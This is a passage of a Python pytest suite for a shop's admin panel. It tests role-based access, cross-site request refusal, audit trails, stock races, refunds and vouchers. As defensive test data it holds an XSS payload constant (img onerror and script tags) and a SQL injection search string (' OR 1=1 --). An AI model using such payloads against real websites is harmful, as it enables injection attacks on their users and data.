"""The staff looks after the shop: each role in its areas, and every change with who made it."""

from __future__ import annotations

import csv
import html
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from io import StringIO
from typing import Any
from urllib.parse import urlencode

import pytest
from apiflask import APIFlask
from flask.testing import FlaskClient
from sqlalchemy import delete, func, select, update
from ulid import ULID

from app_support.authority import writes_refused
from app_support.buying import Till, announced, at_once, buy, selling, set_stock, stock, variant, voucher
from app_support.catalogue import stock_the_shelves
from app_support.identity import has_account, questions
from app_support.staffing import Crew, paid_order, recorded
from shop.accounts.models import AccountRole
from shop.accounts.people import Role
from shop.admin.audit import Deed
from shop.admin.forms import minor_of
from shop.admin.gate import AREAS, is_inside
from shop.admin.models import AuditEntry
from shop.admin.reports import span_of
from shop.admin.spreadsheet import written
from shop.admin.variants import StockMoved
from shop.catalogue.models import Category, Product, ProductImage, Variant
from shop.config import Config
from shop.models3d.service import GLB, model_key, poster_key
from shop.orders.models import LedgerGap, Refund, StoredOrder
from shop.orders.order import OrderState
from shop.outbox.models import OutboxRow
from shop.pricing.models import StoredVoucher
from shop.problems import Conflict, Invalid, Problem
from shop.shop import Shop, open_shop
from shop.uploads.picture import Kind

SCRIPT = "<script>alert(1)</script>"
HOSTILE = f'"><img src=x onerror=alert(1)>{SCRIPT}'


@pytest.fixture(scope="module")
def till() -> Till:
    return Till()


@pytest.fixture(scope="module")
def shop(config: Config, till: Till) -> Iterator[Shop]:
    """A shop that sells, with a few products on its shelves."""
    shop = selling(open_shop(config), till)
    stock_the_shelves(shop.database)
    yield shop
    shop.database.close()


@pytest.fixture(scope="module")
def crew(app: APIFlask) -> Crew:
    return Crew(app)


@pytest.fixture
def owner(crew: Crew) -> FlaskClient:
    return crew(Role.OWNER)


def new_product(shop: Shop, slug: str, *, stock: int = 10, price_minor: int = 1000) -> int:
    """Put a product on sale, and return the id of its only variant."""
    with shop.database.write() as session:
        category = session.scalars(select(Category).order_by(Category.id)).first()
        assert category is not None
        product = Product(
            slug=slug, name=slug, description=slug, category_id=category.id, price_minor=price_minor,
            variants=[Variant(sku=f"{slug}-1", name="one", price_minor=price_minor, stock=stock, position=1)],
            images=[ProductImage(key=f"products/{slug}/{n}.webp", alt=f"no {n}", position=n) for n in (1, 2, 3)],
            image_key=f"products/{slug}/1.webp",
        )  # fmt: skip
        session.add(product)
        session.flush()
        return product.variants[0].id


def product_form(shop: Shop, slug: str, /, **changes: object) -> dict[str, object]:
    """What the page's form sends when only this is changed."""
    product = shop.goods.product(slug)
    terms = product.terms
    form: dict[str, object] = {
        "name": terms.name, "slug": terms.slug, "description": terms.description, "category_id": terms.category_id,
        "attributes": "\n".join(f"{name}: {value}" for name, value in terms.attributes), "edition": product.edition,
    }  # fmt: skip
    if terms.is_active:
        form["is_active"] = "true"
    return {name: value for name, value in {**form, **changes}.items() if value is not None}


def variant_form(shop: Shop, slug: str, /, **changes: object) -> dict[str, object]:
    """What the form of the product's first variant sends when only this is changed."""
    first = shop.goods.product(slug).variants[0]
    form = {
        "sku": first.sku, "name": first.name, "price": f"{first.price_minor / 100:.2f}", "is_active": "true",
        "edition": first.edition,
    }  # fmt: skip
    return {name: value for name, value in {**form, **changes}.items() if value is not None}


def row_of(shop: Shop, slug: str) -> Any:
    with shop.database.read() as connection:
        return connection.execute(select(Product.__table__).where(Product.slug == slug)).one()


def error_at(page: str, field: str) -> str:
    """What the page says is wrong with a field."""
    found = re.search(rf'<p class="field-error" id="{field}-error">(.*?)</p>', page)
    return html.unescape(found[1]) if found else ""


# Who may come in.
@pytest.mark.parametrize("role", [*Role, None], ids=lambda role: role or "shopper")
@pytest.mark.parametrize("area", AREAS, ids=lambda area: area.path)
def test_a_role_opens_its_own_areas_and_no_others(crew: Crew, role: Role | None, area: Any) -> None:
    answer = crew(role).get(area.path)
    if role is None:
        assert answer.status_code == 404
        assert "Administration" not in answer.text
    else:
        assert answer.status_code == (200 if role in {Role.OWNER, area.role} else 403)
    assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("role", Role)
def test_the_desk_leads_each_role_to_its_areas(crew: Crew, role: Role) -> None:
    page = crew(role).get("/admin").text
    shown = {area.path for area in AREAS if f'href="{area.path}"' in page}
    assert shown == {area.path for area in AREAS if role in {Role.OWNER, area.role}}
    assert 'href="/admin"' in crew(role).get("/account").text
    assert "/admin" not in crew(None).get("/account").text


def test_no_address_of_the_administration_is_outside_of_the_gate(
    app: APIFlask, crew: Crew, client: FlaskClient
) -> None:
    shopper, rules = crew(None), [rule for rule in app.url_map.iter_rules() if is_inside(rule.rule)]
    assert len(rules) > 30
    for rule in rules:
        assert rule.rule == "/admin" or any(
            rule.rule == area.path or rule.rule.startswith(f"{area.path}/") for area in AREAS
        )
        path = re.sub(r"<ulid:\w+>", str(ULID()), re.sub(r"<int[^>]*>", "1", rule.rule))
        path = re.sub(r"<\w+>", "plain-mug", path)
        for method in (rule.methods or set()) & {"GET", "POST"}:
            assert shopper.open(path, method=method).status_code == 404, f"{method} {path}"
            answer = client.open(path, method=method)
            assert answer.status_code == (303 if method == "GET" else 401), f"{method} {path}"
            assert method == "POST" or answer.headers["Location"].startswith("/sign-in?next=%2Fadmin")


def test_what_does_not_exist_looks_to_strangers_like_what_does(crew: Crew, client: FlaskClient) -> None:
    assert client.get("/admin/nothing").headers["Location"] == "/sign-in?next=%2Fadmin%2Fnothing"
    nothing, something = (crew(None).get(path) for path in ("/admin/nothing", "/admin/orders"))
    assert re.sub("<code>.*</code>", "", nothing.text) == re.sub("<code>.*</code>", "", something.text)


def test_what_goes_wrong_is_told_to_the_staff_in_its_own_words(crew: Crew) -> None:
    staff = crew(Role.CATALOGUE)
    missing, forbidden = staff.get("/admin/products/none"), staff.get("/admin/orders")
    assert (missing.status_code, forbidden.status_code) == (404, 403)
    assert "may have been renamed or removed" in missing.text
    assert "no longer sold" not in missing.text
    assert "An owner of the shop can give you others" in forbidden.text
    assert 'href="/admin/products"' in forbidden.text  # what is open to them
    assert 'href="/admin/staff"' not in forbidden.text


@dataclass(frozen=True)
class Write:
    """One change in an area, as its form sends it."""

    path: str
    form: dict[str, object]


WRITES = {
    "products": Write("/admin/products/new", {"name": "N", "slug": "not-added", "description": "d", "category_id": 1}),
    "media": Write("/admin/products/plain-mug/media/pictures/remove", {"key": "products/plain-mug/1.webp"}),
    "stock": Write(
        "/admin/products/plain-mug/variants/1/delivery", {"pieces": 5, "form_key": "01ARZ3NDEKTSV4RRFFQ69G5FAV"}
    ),
    "categories": Write("/admin/categories", {"name": "N", "slug": "not-added", "position": 1}),
    "reviews": Write("/admin/reviews/01ARZ3NDEKTSV4RRFFQ69G5FAV/hide", {"reason": "x"}),
    "orders": Write("/admin/orders/{order_id}/shipped", {}),
    "jobs": Write("/admin/jobs/1/retry", {}),
    "vouchers": Write("/admin/vouchers/new", {"code": "NOT-ADDED", "percent": 5, "is_active": "true"}),
    "staff": Write("/admin/staff/grant", {"email": "shopper@crew.test", "role": "owner"}),
}


def whole_state(shop: Shop) -> tuple[object, ...]:
    """Return what no refused change may change."""
    with shop.database.read() as connection:
        counted = [
            connection.execute(select(func.count()).select_from(table)).scalar()
            for table in (Product, Category, StoredVoucher, AccountRole, AuditEntry, ProductImage)
        ]
        return (*counted, connection.execute(select(func.sum(Variant.stock))).scalar())


@pytest.mark.parametrize("name", WRITES)
def test_a_change_that_another_page_sends_is_refused(
    name: str, owner: FlaskClient, crew: Crew, shop: Shop, till: Till
) -> None:
    crew(None)
    order_id = paid_order(shop, till, variant(shop, "paper-lamp-s"))
    set_stock(shop, variant(shop, "paper-lamp-s"), 7)
    before, write = whole_state(shop), WRITES[name]
    path = write.path.format(order_id=order_id)
    answer = owner.post(path, data=write.form, headers={"Sec-Fetch-Site": "cross-site"})
    assert answer.status_code == 403
    with writes_refused(shop):
        answer = owner.post(path, data=write.form)
    assert answer.status_code == 503
    assert "Nothing can be changed for a moment" in answer.text
    assert "basket" not in answer.text.partition("<main")[2].partition("</main>")[0]
    assert whole_state(shop) == before
    assert shop.orders.order(order_id).state is OrderState.PAID


# Products.
def test_a_product_is_edited_and_the_record_says_by_whom_and_what_it_was(
    crew: Crew, owner: FlaskClient, shop: Shop
) -> None:
    staff = crew(Role.CATALOGUE)
    assert "Plain mug" in staff.get("/admin/products").text
    form = product_form(shop, "plain-mug", name="Plainer mug", attributes="material: oak\ncolour: green")
    answer = staff.post("/admin/products/plain-mug", data=form)
    assert (answer.status_code, answer.headers["Location"]) == (303, "/admin/products/plain-mug?done=1")
    page = staff.get("/products/plain-mug").text
    assert "Plainer mug" in page
    assert "oak" in page
    entry = shop.audit.entries(subject=f"product:{shop.goods.id_of('plain-mug')}").items[0]
    assert (entry.who, entry.what) == ("catalogue@crew.test", "product: changed")
    assert ("name", "Plain mug", "Plainer mug") in entry.changes
    assert {name for name, _, _ in entry.changes} == {"name", "attributes"}
    record = owner.get("/admin/record").text
    assert "catalogue@crew.test" in record
    assert "Plainer mug" in record


def test_a_product_begins_off_sale_and_is_sold_when_it_has_a_variant(crew: Crew, shop: Shop) -> None:
    staff = crew(Role.CATALOGUE)
    category = shop.categories.all()[0].id
    form = {"name": "New bowl", "slug": "new-bowl", "description": "It is new.", "category_id": category}
    assert staff.post("/admin/products/new", data=form).headers["Location"] == "/admin/products/new-bowl?done=1"
    assert staff.get("/products/new-bowl").status_code == 404
    answer = staff.post("/admin/products/new-bowl", data=product_form(shop, "new-bowl", is_active="true"))
    assert answer.status_code == 422
    assert "Add a variant first" in error_at(answer.text, "is_active")
    added = {"sku": "BOWL-1", "name": "small", "price": "12.50", "is_active": "true"}
    assert staff.post("/admin/products/new-bowl/variants", data=added).status_code == 303
    assert row_of(shop, "new-bowl").price_minor == 1250
    answer = staff.post("/admin/products/new-bowl", data=product_form(shop, "new-bowl", is_active="true"))
    assert answer.status_code == 303
    assert staff.get("/products/new-bowl").status_code == 200
    at = f"/admin/products/new-bowl/variants/{variant(shop, 'BOWL-1')}"
    retired = staff.post(at, data=variant_form(shop, "new-bowl", is_active=None))
    assert retired.status_code == 409
    assert "Take it off sale first" in retired.text


@pytest.mark.parametrize(
    ("changes", "field", "words"),
    [
        ({"slug": "tall-mug"}, "slug", "Another product has it"),
        ({"slug": "../x"}, "slug", "Small letters"),
        ({"slug": "new"}, "slug", "choose another one"),
        ({"name": ""}, "name", "fill this in"),
        ({"name": "x" * 121}, "name", "shorter"),
        ({"name": "a\nb"}, "name", "one line"),
        ({"description": "a\x00b"}, "description", "can’t be shown"),
        ({"category_id": "2147483647"}, "category_id", "choose one"),
        ({"category_id": "9" * 30}, "category_id", ""),
        ({"attributes": "Material"}, "attributes", "“Material”: write each line"),
        ({"attributes": "page: 2"}, "attributes", "meaning of its own"),
        ({"attributes": "a: 1\na: 2"}, "attributes", "one line only"),
    ],
)
def test_what_is_wrong_with_a_product_is_said_at_its_field_and_nothing_is_lost(
    crew: Crew, shop: Shop, changes: dict[str, object], field: str, words: str
) -> None:
    form = product_form(shop, "desk-lamp", **{"description": "kept words", **changes})
    answer = crew(Role.CATALOGUE).post("/admin/products/desk-lamp", data=form)
    assert answer.status_code == 422
    assert words in error_at(answer.text, field)
    assert error_at(answer.text, field)
    assert field == "description" or "kept words" in answer.text
    assert shop.goods.product("desk-lamp").terms.name == "Desk lamp"


def test_who_saves_over_a_change_that_they_never_saw_is_told_so(crew: Crew, shop: Shop) -> None:
    new_product(shop, "contested")
    form = product_form(shop, "contested", name="mine")
    assert crew(Role.OWNER).post("/admin/products/contested", data={**form, "name": "theirs"}).status_code == 303
    answer = crew(Role.CATALOGUE).post("/admin/products/contested", data=form)
    assert answer.status_code == 409
    assert "Somebody else changed this" in answer.text
    assert shop.goods.product("contested").terms.name == "theirs"


def test_what_a_form_has_no_field_for_can_not_be_set(crew: Crew, shop: Shop) -> None:
    staff = crew(Role.CATALOGUE)
    new_product(shop, "firm", stock=3)
    more = {"price_minor": 1, "rating_sum": 500, "rating_count": 100, "has_model": "true", "id": 1, "image_key": "x"}
    assert staff.post("/admin/products/firm", data=product_form(shop, "firm", **more)).status_code == 303
    product = row_of(shop, "firm")
    assert (product.price_minor, product.rating_sum, product.rating_count, product.has_model) == (1000, 0, 0, False)
    at = f"/admin/products/firm/variants/{variant(shop, 'firm-1')}"
    assert staff.post(at, data=variant_form(shop, "firm", stock=99, product_id=1, id=1)).status_code == 303
    assert stock(shop, variant(shop, "firm-1")) == 3
    code = voucher(shop, percent=10)
    edition = shop.vouchers.voucher(code).edition
    form = {"percent": 10, "is_active": "true", "uses": 0, "code": "OTHER", "edition": edition}
    with shop.database.write() as session:
        session.execute(update(StoredVoucher).where(StoredVoucher.code == code).values(uses=4))
    assert crew(Role.ORDERS).post(f"/admin/vouchers/{code}", data=form).status_code == 303
    assert shop.vouchers.voucher(code).uses == 4


def test_a_model_follows_its_product_to_another_slug(crew: Crew, shop: Shop) -> None:
    new_product(shop, "old-name")
    shop.storage.put(model_key("old-name"), b"model", GLB)
    shop.storage.put(poster_key("new-name"), b"of another product", Kind.WEBP)
    form = product_form(shop, "old-name", slug="new-name")
    assert crew(Role.CATALOGUE).post("/admin/products/old-name", data=form).status_code == 303
    assert shop.storage.get(model_key("new-name")) == b"model"
    assert shop.storage.get(poster_key("new-name")) is None
    assert shop.storage.get(model_key("old-name")) is None


def test_products_are_found_by_words_sku_category_and_state(crew: Crew, shop: Shop) -> None:
    staff = crew(Role.CATALOGUE)

    def found(query: str) -> set[str]:
        return set(re.findall(r'class="with-picture" href="/admin/products/([a-z0-9-]+)"', staff.get(query).text))

    assert found("/admin/products?q=paper") == {"paper-lamp"}
    assert found("/admin/products?q=GLASS-CUP-L") == {"glass-cup"}
    assert found("/admin/products?q=%25") == set()
    assert {"desk-lamp", "paper-lamp"} <= found("/admin/products?category=lamps")
    assert "plain-mug" not in found("/admin/products?category=lamps")
    assert "glass-cup" in found("/admin/products?state=low")
    assert "desk-lamp" not in found("/admin/products?state=low")
    assert staff.get("/admin/products?state=x").status_code == 422
    assert staff.get("/admin/products?page=0").status_code == 422
    with questions() as asked:
        staff.get("/admin/products")
    assert len([statement for statement in asked if "product" in statement]) <= 3


def test_a_long_list_is_turned_page_by_page(crew: Crew, shop: Shop) -> None:
    with shop.database.write() as session:
        category = session.scalars(select(Category.id)).first()
        session.add_all(
            Product(slug=f"many-{n:03}", name=f"Many {n}", description="", category_id=category, price_minor=1)
            for n in range(60)
        )
    first = crew(Role.CATALOGUE).get("/admin/products?q=many").text
    second = crew(Role.CATALOGUE).get("/admin/products?q=many&page=2").text
    assert (first.count('class="with-picture"'), second.count('class="with-picture"')) == (50, 10)
    following = re.search(r'href="([^"]+)" rel="next"|rel="next" href="([^"]+)"', first)
    assert following is not None
    assert html.unescape(following[1] or following[2]).startswith("/admin/products?page=2&q=many")
    assert 'rel="next"' not in second


# Variants and stock.
def test_a_price_shows_in_the_shop_at_once_and_retired_variants_do_not_count(crew: Crew, shop: Shop) -> None:
    staff, slug = crew(Role.CATALOGUE), "tall-mug"
    first, second = shop.goods.product(slug).variants
    at = f"/admin/products/{slug}/variants/{first.id}"
    staff.get(f"/products/{slug}")
    assert staff.post(at, data=variant_form(shop, slug, price="3,5", name="tiny")).status_code == 303
    assert row_of(shop, slug).price_minor == 350
    assert "€3.50" in staff.get("/products?q=tall+mug").text
    assert staff.post(at, data=variant_form(shop, slug, is_active=None)).status_code == 303
    assert row_of(shop, slug).price_minor == second.price_minor
    stale = staff.post(at, data=variant_form(shop, slug, edition="0123456789abcdef"))
    assert stale.status_code == 409
    taken = staff.post(at, data=variant_form(shop, slug, sku="plain-mug-s"))
    assert taken.status_code == 422
    assert "Another variant has it" in taken.text
    elsewhere = staff.post(f"/admin/products/desk-lamp/variants/{first.id}", data=variant_form(shop, slug))
    assert elsewhere.status_code == 404


@pytest.mark.parametrize("text", ["", "x", "-1", "1.234", "1e3", "12.345,6", "99999999", "１２", "1 000"])
def test_what_is_no_price_is_refused(text: str) -> None:
    with pytest.raises(Invalid):
        minor_of(text, "EUR", "price")


def test_prices_are_read_as_people_write_them() -> None:
    assert [minor_of(text, "EUR", "price") for text in ("12", "12.5", "12,50", "0")] == [1200, 1250, 1250, 0]
    assert minor_of("1200", "JPY", "price") == 1200
    assert minor_of("1.234", "KWD", "price") == 1234


def test_a_delivery_is_added_once_however_often_its_form_is_sent(crew: Crew, shop: Shop) -> None:
    own = new_product(shop, "delivered", stock=4)
    at, form = f"/admin/products/delivered/variants/{own}/delivery", {"pieces": 6, "form_key": str(ULID())}
    assert [crew(Role.CATALOGUE).post(at, data=form).status_code for _ in range(3)] == [303] * 3
    assert stock(shop, own) == 10
    subject = f"product:{shop.goods.id_of('delivered')}"
    assert recorded(shop, subject) == ["stock: delivered (done)"]
    many = crew(Role.CATALOGUE).post(at, data={"pieces": 999_999, "form_key": str(ULID())})
    assert many.status_code == 422
    assert "more than 1,000,000" in many.text


def test_a_correction_says_what_it_was_and_is_refused_when_that_is_no_longer_so(crew: Crew, shop: Shop) -> None:
    own = new_product(shop, "counted", stock=10)
    at = f"/admin/products/counted/variants/{own}/count"
    buy(shop, own, 3)
    late = crew(Role.CATALOGUE).post(at, data={"seen": 10, "counted": 9, "reason": "one broke"})
    assert late.status_code == 409
    assert "It was 10 when you looked, and is 7 now" in error_at(late.text, f"counted-{own}")
    assert stock(shop, own) == 7
    assert crew(Role.CATALOGUE).post(at, data={"seen": 7, "counted": 6, "reason": "one broke"}).status_code == 303
    assert stock(shop, own) == 6
    entry = shop.audit.entries(subject=f"product:{shop.goods.id_of('counted')}").items[0]
    assert (entry.changes, entry.reason) == ((("stock", "7", "6"),), "counted-1: one broke")
    without = crew(Role.CATALOGUE).post(at, data={"seen": 6, "counted": 5})
    assert "fill this in" in error_at(without.text, f"count-reason-{own}")


def test_no_piece_is_lost_when_corrections_and_deliveries_race_with_sales(shop: Shop) -> None:
    own = new_product(shop, "raced", stock=40)
    deed = Deed(by=str(ULID()), what="stock", subject="", reason="race")

    def sell() -> int:
        try:
            buy(shop, own, 1)
        except Problem:
            return 0
        return -1

    def deliver() -> int:
        shop.variants.deliver("raced", own, 2, deed)
        return 2

    def correct() -> int:
        seen = stock(shop, own)
        try:
            shop.variants.correct("raced", own, seen, seen + 1, deed)
        except StockMoved:
            return 0
        return 1

    with ThreadPoolExecutor(8) as threads:
        jobs = [threads.submit(job) for _ in range(12) for job in (sell, deliver, correct, sell)]
        moved = [job.result() for job in jobs]
    assert stock(shop, own) == 40 + sum(moved)
    assert moved.count(-1) == 24
    assert moved.count(2) == 12


def test_the_first_picture_is_the_one_that_cards_show(crew: Crew, shop: Shop) -> None:
    new_product(shop, "pictured")
    staff, third = crew(Role.CATALOGUE), "products/pictured/3.webp"
    form = {"key": third, "alt": "From above", "place": 1}
    assert staff.post("/admin/products/pictured/pictures", data=form).status_code == 303
    assert [picture.alt for picture in shop.pictures.of_product("pictured").pictures] == ["From above", "no 1", "no 2"]
    assert row_of(shop, "pictured").image_key == third
    wordless = staff.post("/admin/products/pictured/pictures", data={**form, "alt": " "})
    assert wordless.status_code == 422
    assert "fill this in" in error_at(wordless.text, "alt-1")
    assert staff.post("/admin/products/pictured/pictures", data={**form, "key": "products/x"}).status_code == 404
    removed = staff.post("/admin/products/pictured/media/pictures/remove", data={"key": third})
    assert removed.status_code == 303
    assert row_of(shop, "pictured").image_key == "products/pictured/1.webp"
    refused = staff.post("/admin/products/pictured/media/pictures/remove", data={"key": third})
    assert refused.status_code == 404
    assert recorded(shop, f"product:{shop.goods.id_of('pictured')}") == [
        "picture: changed (done)",
        "media: pictures, remove (done)",
        "media: pictures, remove (refused)",
    ]


def test_categories_are_added_and_changed(crew: Crew, shop: Shop) -> None:
    staff = crew(Role.CATALOGUE)
    assert staff.post("/admin/categories", data={"name": "Bowls", "slug": "bowls", "position": 0}).status_code == 303
    assert shop.categories.all()[0].terms.name == "Bowls"
    taken = staff.post("/admin/categories", data={"name": "Bowls", "slug": "bowls", "position": 0})
    assert "Another category has it" in error_at(taken.text, "slug-new")
    first = shop.categories.all()[0]
    form = {"name": "Deep bowls", "slug": "bowls", "position": 9, "edition": first.edition}
    assert staff.post(f"/admin/categories/{first.id}", data=form).status_code == 303
    assert staff.post(f"/admin/categories/{first.id}", data=form).status_code == 409
    assert "Deep bowls" in staff.get("/products").text
    assert staff.post("/admin/categories/2147483647", data=form).status_code == 404
    assert staff.post(f"/admin/categories/{'9' * 30}", data=form).status_code == 404


def test_a_category_is_removed_when_nothing_stands_on_it(crew: Crew, shop: Shop) -> None:
    staff = crew(Role.CATALOGUE)
    staff.post("/admin/categories", data={"name": "Spoons", "slug": "spoons", "position": 50})
    spoons, mugs = (next(one for one in shop.categories.all() if one.terms.slug == slug) for slug in ("spoons", "mugs"))
    page = staff.get("/admin/categories").text
    assert f"/admin/categories/{spoons.id}/remove" in page
    assert f"/admin/categories/{mugs.id}/remove" not in page
    full = staff.post(f"/admin/categories/{mugs.id}/remove", data={"edition": mugs.edition})
    assert full.status_code == 409
    assert "Give them another category first" in full.text
    path = f"/admin/categories/{spoons.id}/remove"
    assert staff.post(path, data={"edition": "0123456789abcdef"}).status_code == 409
    assert staff.post(path, data={"edition": spoons.edition}).status_code == 303
    assert "spoons" not in {one.terms.slug for one in shop.categories.all()}
    assert staff.post(path, data={"edition": spoons.edition}).status_code == 404
    assert recorded(shop, f"category:{spoons.id}") == ["category: new (done)", "category: removed (done)"]


# Orders.
def test_an_order_is_found_by_mail_id_number_and_state(crew: Crew, shop: Shop, till: Till) -> None:
    staff, own = crew(Role.ORDERS), variant(shop, "desk-lamp-s")
    order = shop.orders.order(paid_order(shop, till, own))
    waiting = buy(shop, own).order_id

    def found(**query: str) -> set[str]:
        page = staff.get("/admin/orders", query_string=query).text
        return set(re.findall(r'href="/admin/orders/([0-9A-Z]{26})"', page))

    for text in (order.id, order.number, order.number.lower(), order.email, order.email.upper()):
        assert found(q=text) == {order.id}
    assert {order.id} <= found(state="paid")
    assert waiting not in found(state="paid")
    assert waiting in found(state="awaiting_payment")
    assert found(q="' OR 1=1 --") == set()
    assert found(q="%%%%") == set()
    page = staff.get(f"/admin/orders/{order.id}").text
    assert order.email in page
    assert "Berlin" in page
    assert staff.get(f"/admin/orders/{ULID()}").status_code == 404


def test_an_order_is_shipped_and_the_buyer_told(crew: Crew, shop: Shop, till: Till) -> None:
    order_id = paid_order(shop, till, variant(shop, "desk-lamp-l"))
    assert crew(Role.ORDERS).post(f"/admin/orders/{order_id}/shipped").status_code == 303
    assert shop.orders.order(order_id).state is OrderState.SHIPPED
    assert announced(shop, "mail.order_shipped", order_id) == 1
    cancelled = crew(Role.ORDERS).post(f"/admin/orders/{order_id}/cancel")
    assert cancelled.status_code == 409
    assert "shipped already" in cancelled.text
    assert recorded(shop, f"order:{order_id}") == ["order: shipped (done)", "order: cancelled (refused)"]


def test_an_order_that_was_not_paid_is_not_shipped(crew: Crew, shop: Shop) -> None:
    order_id = buy(shop, variant(shop, "desk-lamp-l")).order_id
    answer = crew(Role.ORDERS).post(f"/admin/orders/{order_id}/shipped")
    assert answer.status_code == 409
    assert "Only a paid order can be shipped" in answer.text


def test_money_goes_back_after_a_page_that_asks_once_more_and_once_per_form(crew: Crew, shop: Shop, till: Till) -> None:
    staff, order_id = crew(Role.ORDERS), paid_order(shop, till, variant(shop, "paper-lamp-l"))
    path, whole = f"/admin/orders/{order_id}/refund", shop.orders.order(order_id).paid_minor
    assert f'value="{whole / 100:.2f}"' in staff.get(path).text
    asking = staff.get(f"{path}?amount=10.00").text
    assert "Give <strong>€10.00</strong> back" in asking
    key = re.search(r'name="form_key" value="([0-9A-Z]{26})"', asking)
    assert key is not None
    assert shop.orders.order(order_id).refunded_minor == 0
    form = {"amount": "10.00", "form_key": key[1]}
    assert [staff.post(path, data=form).status_code for _ in range(3)] == [303] * 3
    assert shop.orders.order(order_id).refunded_minor == 1000
    rest = {"amount": f"{(whole - 1000) / 100:.2f}", "form_key": str(ULID())}
    assert staff.post(path, data=rest).status_code == 303
    with shop.database.read() as connection:
        refunds = select(Refund.amount_minor, Refund.asked_by).where(Refund.order_id == order_id)
        found = connection.execute(refunds.order_by(Refund.asked_at)).all()
    assert [amount for amount, _ in found] == [1000, whole - 1000]
    assert {by for _, by in found} == {crew.ids["orders"]}
    assert {refund.asked_by for refund in shop.order_desk.refunds(order_id)} == {"orders@crew.test"}


def test_a_refund_that_the_provider_refused_is_told_as_money(crew: Crew, shop: Shop, till: Till) -> None:
    order_id = paid_order(shop, till, variant(shop, "desk-lamp-s"))
    order = shop.orders.order(order_id)
    shop.orders.refund(order_id, 1999, "staff", key="late")
    till.refunds["elsewhere"] = (str(order.payment_id), order.total_minor)
    shop.orders.make_refund(f"{order_id}-late")
    assert "a refund of €19.99 was refused" in crew(Role.ORDERS).get(f"/admin/orders/{order_id}").text
    shop.order_desk.look_after(order_id, str(shop.orders.order(order_id).attention), crew.ids["orders"])


@pytest.mark.parametrize("amount", ["10000.00", "0", "-5", "x", ""])
def test_an_amount_that_can_not_go_back_is_refused_at_its_field(
    crew: Crew, shop: Shop, till: Till, amount: str
) -> None:
    set_stock(shop, variant(shop, "paper-lamp-l"), 5)
    order_id = paid_order(shop, till, variant(shop, "paper-lamp-l"))
    path = f"/admin/orders/{order_id}/refund"
    for answer in (
        crew(Role.ORDERS).get(path, query_string={"amount": amount}),
        crew(Role.ORDERS).post(path, data={"amount": amount, "form_key": str(ULID())}),
    ):
        assert answer.status_code in {409, 422}
        assert error_at(answer.text, "amount")
    assert shop.orders.order(order_id).refunded_minor == 0


def test_two_who_give_the_same_money_back_at_once_give_it_once(shop: Shop, till: Till, crew: Crew) -> None:
    crew(Role.ORDERS)
    set_stock(shop, variant(shop, "paper-lamp-l"), 5)
    order_id = paid_order(shop, till, variant(shop, "paper-lamp-l"))
    whole = shop.orders.order(order_id).paid_minor
    came = at_once(lambda: shop.orders.refund(order_id, whole, "staff", str(ULID())), 4)
    assert sum(answer is None for answer in came) == 1
    assert shop.orders.order(order_id).refunded_minor == whole


def test_an_order_is_cancelled_after_a_page_that_asks_once_more(crew: Crew, shop: Shop, till: Till) -> None:
    own = new_product(shop, "cancelled", stock=5)
    order_id = paid_order(shop, till, own, 2)
    asking = crew(Role.ORDERS).get(f"/admin/orders/{order_id}/cancel")
    assert "can’t be undone" in asking.text
    assert stock(shop, own) == 3
    assert crew(Role.ORDERS).post(f"/admin/orders/{order_id}/cancel").status_code == 303
    order = shop.orders.order(order_id)
    assert (order.state, order.refundable_minor, stock(shop, own)) == (OrderState.CANCELLED, 0, 5)


def test_what_a_person_has_to_look_at_is_seen_and_looked_after(crew: Crew, shop: Shop, till: Till) -> None:
    staff, order_id = crew(Role.ORDERS), paid_order(shop, till, variant(shop, "desk-lamp-s"))
    with shop.database.write() as session:
        session.execute(update(StoredOrder).where(StoredOrder.id == order_id).values(attention="paid too much"))
        session.add(
            LedgerGap(page_id="cs_lost", order_id="LOST-ORDER", status="paid", amount_minor=4200, currency="EUR",
                      begun_at=datetime.now(UTC), found_at=datetime.now(UTC))
        )  # fmt: skip
        failed = OutboxRow(
            topic="mail.order_shipped", payload={"order_id": order_id, "login": "secret@shopper.test"},
            announced_at=datetime.now(UTC), attempts=24, last_error="no such mailbox", parked_at=datetime.now(UTC),
        )  # fmt: skip
        session.add(failed)
    desk = staff.get("/admin").text
    assert desk.count("number-tile bad") == 3
    listed = staff.get("/admin/orders?state=attention").text
    assert order_id in listed
    assert "LOST-ORDER" in listed
    at = f"/admin/orders/{order_id}/looked-after"
    assert staff.post(at, data={"attention": "something else"}).status_code == 409
    assert staff.post(at, data={"attention": "paid too much"}).status_code == 303
    assert shop.orders.order(order_id).attention is None
    jobs = staff.get("/admin/jobs").text
    assert "no such mailbox" in jobs
    assert "secret@shopper.test" not in jobs
    assert staff.post(f"/admin/jobs/{failed.id}/retry").status_code == 303
    assert not shop.outbox.parked()
    assert recorded(shop, f"job:{failed.id}") == ["job: again (done)"]
    with shop.database.write() as session:
        session.execute(delete(LedgerGap))


# Vouchers.
def test_a_voucher_is_issued_changed_and_ended(crew: Crew, shop: Shop) -> None:
    staff = crew(Role.ORDERS)
    form = {"code": "spring-10", "percent": "10", "minimum": "20", "starts_on": "2026-03-01", "ends_on": "2026-03-31",
            "max_uses": "50", "is_once_per_customer": "true", "is_active": "true", "note": "for spring"}  # fmt: skip
    assert staff.post("/admin/vouchers/new", data=form).status_code == 303
    kept = shop.vouchers.voucher("SPRING-10")
    assert (kept.terms.percent, kept.terms.minimum_minor, kept.terms.max_uses) == (10, 2000, 50)
    assert kept.terms.ends_at == datetime(2026, 4, 1, tzinfo=UTC)
    assert 'value="2026-03-31"' in staff.get("/admin/vouchers/SPRING-10").text
    again = staff.post("/admin/vouchers/new", data=form)
    assert "There is one with this code" in error_at(again.text, "code")
    changed = {"amount": "5", "edition": kept.edition, "is_active": "true"}
    assert staff.post("/admin/vouchers/SPRING-10", data=changed).status_code == 303
    assert shop.vouchers.voucher("SPRING-10").terms.amount_minor == 500
    assert staff.post("/admin/vouchers/SPRING-10", data=changed).status_code == 409
    assert staff.post("/admin/vouchers/SPRING-10/end").status_code == 303
    assert not shop.vouchers.voucher("SPRING-10").terms.is_active
    assert staff.post("/admin/vouchers/NONE/end").status_code == 404
    assert len(recorded(shop, "voucher:SPRING-10")) == 3


@pytest.mark.parametrize(
    ("form", "field"),
    [
        ({"code": "AB"}, "code"),
        ({"code": "A B"}, "code"),
        ({"percent": "0"}, "percent"),
        ({"percent": "101"}, "percent"),
        ({"percent": ""}, "percent"),
        ({"amount": "5"}, "percent"),
